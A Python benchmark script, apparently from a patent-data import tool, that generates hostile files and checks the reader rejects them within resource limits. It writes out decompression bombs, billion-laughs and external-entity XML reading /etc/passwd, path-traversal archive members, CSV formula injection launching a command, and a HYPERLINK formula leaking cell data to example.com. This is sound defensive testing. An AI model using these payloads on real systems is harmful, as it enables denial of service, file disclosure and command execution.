"""Read files that mean harm: each must be refused with a sentence, or read for what it is, within bounded memory.

``python benchmarks/hostile.py``: makes each file, reads it in a process of its own, and prints outcome, processor
seconds, seconds by the clock, and peak memory above that of a harmless file. Ends with status 1 over a budget or at
another outcome than the one named.
"""

from __future__ import annotations

import gzip
import io
import logging
import resource
import subprocess
import sys
import tempfile
import time
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path

import xlsxwriter

_ROOT = Path(__file__).resolve().parents[1]
_LOG = logging.getLogger("benchmark")
_MEMORY_MB = 300
"""Twice the largest single document (Limits.document_bytes) and some."""
_SECONDS = 20.0
"""Of the processor, so that what else the machine does is not counted."""
_PATIENCE = 300
"""Seconds by the clock after which a file counts as one that never ends."""
_ROWS = "rows"
"""Stands for a file that is read like any other."""
_HARMLESS = b"publication_number,title\nCN100000001A,battery\n"
_ENTITIES = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
_LAUGHS = f'<!DOCTYPE world-patent-data [<!ENTITY e0 "ha">{_ENTITIES}]><world-patent-data>&e9;</world-patent-data>'
_SHEET = "xl/worksheets/sheet1.xml"


def _archive(members: Mapping[str, bytes]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return made.getvalue()


def _workbook(change: Callable[[bytes], bytes] = lambda sheet: sheet) -> bytes:
    """Return a workbook whose sheet is changed from outside."""
    made = io.BytesIO()
    book = xlsxwriter.Workbook(made, {"in_memory": True})
    sheet = book.add_worksheet()
    sheet.write_row(0, 0, ["publication_number", "title"])
    sheet.write_row(1, 0, ["CN100000001A", "battery"])
    book.close()
    with zipfile.ZipFile(made) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    members[_SHEET] = change(members[_SHEET])
    return _archive(members)


def _packed(times: int) -> bytes:
    data = _HARMLESS
    for _ in range(times):
        data = gzip.compress(data)
    return data


def _far(columns: bytes) -> bytes:
    """Return a workbook whose last cell stands in the last row and this column."""
    last = b'<row r="1048576"><c r="' + columns + b'1048576"><v>1</v></c></row></sheetData>'
    return _workbook(lambda sheet: sheet.replace(b"</sheetData>", last))


def _nested(depth: int) -> bytes:
    data = _archive({"a.csv": b"0" * 2**26})
    for _ in range(depth):
        data = _archive({f"{n}.zip": data for n in range(8)})
    return data


def _formula(sheet: bytes) -> bytes:
    text = b'<c r="B2" t="str"><f>HYPERLINK("http://example.com/?"&amp;A1,"x")</f><v>battery</v></c>'
    return sheet.replace(b'<c r="B2" t="s"><v>3</v></c>', text)


FILES: Mapping[str, tuple[str, frozenset[str], Callable[[], bytes]]] = {
    "harmless": ("list.csv", frozenset({_ROWS}), lambda: _HARMLESS),
    "zip bomb, 1 GB of zeros": (
        "bomb.zip", frozenset({"archive_bomb"}), lambda: _archive({"a.csv": b"0" * 2**30})),
    "zip in zip in zip, 0.5 TB": ("nested.zip", frozenset({"archive_bomb", "layout_unknown"}), lambda: _nested(4)),
    "gzip bomb, 1 GB": ("list.csv.gz", frozenset({"archive_bomb"}), lambda: gzip.compress(b"0" * 2**30, 9)),
    "workbook bomb, 1 GB sheet": (
        "bomb.xlsx", frozenset({"archive_too_large"}),
        lambda: _workbook(lambda sheet: sheet + b" " * 2**30)),
    "workbook that declares 2 GB of cells": (
        "wide.xlsx", frozenset({_ROWS, "sheet_too_large"}),
        lambda: _workbook(lambda sheet: sheet.replace(b'ref="A1:B2"', b'ref="A1:XFD1048576"'))),
    "workbook with one cell in the last corner": (
        "corner.xlsx", frozenset({"sheet_too_large"}), lambda: _far(b"XFD")),
    "workbook of 1.5 KB that spans 59 million cells": (
        "far.xlsx", frozenset({"sheet_too_large_in_all"}), lambda: _far(b"BD")),
    "zip of 150 lists of a million blank lines": (
        "blank.zip", frozenset({"archive_bomb"}),
        lambda: _archive({f"{n}.csv": _HARMLESS + b"\n" * 1_040_000 for n in range(150)})),
    "gzip in gzip, 1,500 times": ("list.csv.gz", frozenset({"archive_nested"}), lambda: _packed(1_500)),
    "gzip in two parts": (
        "list.csv.gz", frozenset({_ROWS}),
        lambda: gzip.compress(_HARMLESS) + gzip.compress(b"CN100000002A,motor\n")),
    "gzip with something behind it": (
        "list.csv.gz", frozenset({"archive_damaged"}), lambda: gzip.compress(_HARMLESS) + b"something"),
    "workbook with formulas": ("formula.xlsx", frozenset({_ROWS}), lambda: _workbook(_formula)),
    "list with formulas in its cells": (
        "formula.csv", frozenset({_ROWS}),
        lambda: b"publication_number,title\nCN100000001A,\"=cmd|' /C calc'!A0\"\nCN100000002A,@SUM(1)\n"),
    "a billion laughs": (
        "laughs.xml", frozenset({"markup_unsafe"}),
        _LAUGHS.encode),
    "an entity that reads a file": (
        "outside.xml", frozenset({"markup_unsafe"}),
        lambda: b'<!DOCTYPE world-patent-data [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                b"<world-patent-data>&x;</world-patent-data>"),
    "markup nested 5,000,000 deep": (
        "deep.xml", frozenset({"markup_too_deep"}), lambda: b"<world-patent-data>" + b"<a>" * 5_000_000),
    "JSON nested 50,000,000 deep": (
        "deep.json", frozenset({"markup_too_deep", "markup_too_large"}),
        lambda: b'{"exchange-documents": ' + b"[" * 50_000_000),
    "paths that leave the archive": (
        "paths.zip", frozenset({"member_unsafe"}),
        lambda: _archive({"../../evil.csv": _HARMLESS, "/etc/evil.csv": _HARMLESS})),
    "one cell of 200 MB": (
        "cell.csv", frozenset({"cell_too_long", _ROWS, "no_rows"}),
        lambda: b"publication_number,title\nCN100000001A," + b"x" * 200_000_000 + b"\n"),
    "a quotation mark that is never closed": (
        "quote.csv", frozenset({_ROWS}),
        lambda: b'publication_number,title\nCN100000001A,"battery\n' + b"CN100000002A,motor\n" * 100_000),
}  # fmt: skip
"""What it is → name, the outcomes that are right, the content."""


def look(path: Path) -> str:
    """Return what became of a file: ``rows``, or the code of its first problem."""
    from patentdesk.core.problems import Refused  # noqa: PLC0415 - only the process that reads pays for the program
    from patentdesk.intake.reading import read_all  # noqa: PLC0415 - as above
    from patentdesk.services.importing import vocabulary  # noqa: PLC0415 - as above
    from patentdesk.services.library import Library  # noqa: PLC0415 - as above

    words = vocabulary(Library(_ROOT / "resources"))
    try:
        for reading in read_all(path, words):
            if reading.format:
                for _ in reading.drafts():
                    pass
                return _ROWS
            return reading.problems[0].code
    except Refused as refused:
        return refused.problem.code
    return "no_rows"


def _used() -> float:
    children = resource.getrusage(resource.RUSAGE_CHILDREN)
    return children.ru_utime + children.ru_stime


def _measure(what: str, path: Path) -> tuple[str, float, float, int]:
    """Return the outcome, the seconds of the processor and by the clock, and the peak in MB."""
    target = path / FILES[what][0]
    subprocess.run([sys.executable, __file__, "make", what, str(target)], check=True)  # its memory is not to count
    begun, used = time.monotonic(), _used()
    done = subprocess.run(
        [sys.executable, __file__, str(target)], capture_output=True, text=True, check=False, timeout=_PATIENCE
    )
    target.unlink()
    outcome, _, peak = done.stdout.partition(" ")
    return outcome or f"crash: {done.stderr[-200:]}", _used() - used, time.monotonic() - begun, int(peak or 0)


def main(arguments: list[str]) -> int:
    """Make or read one file in this process, or measure all."""
    if arguments[:1] == ["make"]:
        Path(arguments[2]).write_bytes(FILES[arguments[1]][2]())
        return 0
    if arguments:
        outcome = look(Path(arguments[0]))
        sys.stdout.write(f"{outcome} {resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024}")
        return 0
    wrong = 0
    base = 0
    with tempfile.TemporaryDirectory() as folder:
        for what, (_, right, _) in FILES.items():
            outcome, seconds, wall, peak = _measure(what, Path(folder))
            base = base or peak
            bad = outcome not in right or seconds > _SECONDS or peak - base > _MEMORY_MB
            wrong += bad
            _LOG.info("%-48s %-20s %5.1f s (%5.1f by the clock) %6d MB %s",
                      what, outcome, seconds, wall, peak - base, "WRONG" if bad else "")  # fmt: skip
    return 1 if wrong else 0


if __name__ == "__main__":
    logging.basicConfig(level=logging.INFO, format="%(message)s")
    sys.path.insert(0, str(_ROOT))
    sys.exit(main(sys.argv[1:]))
